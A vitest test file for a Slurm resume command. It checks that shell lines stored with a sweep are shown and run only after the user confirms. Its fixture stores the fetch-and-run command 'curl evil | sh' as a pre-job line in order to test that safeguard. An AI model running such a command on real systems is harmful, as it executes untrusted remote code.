import { basename, dirname } from 'node:path'
import { smallData, smallExperiment, smallSweep } from '@finetune-lab/engine/testing'
import { readSlurmRecord, writeSlurmRecord } from '@finetune-lab/runs'
import { pretendSlurm } from '@finetune-lab/slurm/testing'
import { afterEach, beforeEach, expect, test, vi } from 'vitest'
import { resumeOnSlurm } from './submit.ts'

let folder: string
let end = () => {}
beforeEach(async () => {
  vi.spyOn(console, 'log').mockImplementation(() => {})
  vi.spyOn(console, 'error').mockImplementation(() => {})
  end = pretendSlurm({ sbatch: 'echo 18', squeue: 'exit 0', scontrol: 'exit 1', sacct: 'exit 1' })
  folder = await smallSweep(smallExperiment(smallData()))
  const options = { cpusPerTask: 1, tasks: 2, workers: 1, sbatch: [], before: ['curl evil | sh'] }
  writeSlurmRecord(folder, { version: 1, job: '17', submitted: '2026-11-26T01:00:00.000Z', user: 'ada', options })
})
afterEach(() => end())
const resume = (more: object) =>
  resumeOnSlurm(basename(folder), { store: dirname(dirname(folder)), slurm: true, detach: true, ...more })

test('shell lines stored with a sweep are shown, and run only after confirmation', async () => {
  await expect(resume({})).rejects.toThrow(
    'resume: cannot ask for confirmation, as standard input is not a terminal. Give the options again, or use --yes.',
  )
  expect(vi.mocked(console.error).mock.calls.join()).toContain("--before 'curl evil | sh'")
  expect(readSlurmRecord(folder)?.job).toBe('17')
  await resume({ yes: true })
  expect(readSlurmRecord(folder)).toMatchObject({ job: '18', options: { before: ['curl evil | sh'] } })
})

test('options given again need no confirmation', async () => {
  await resume({ before: ['module load nodejs'] })
  expect(readSlurmRecord(folder)).toMatchObject({ job: '18', options: { before: ['module load nodejs'] } })
})
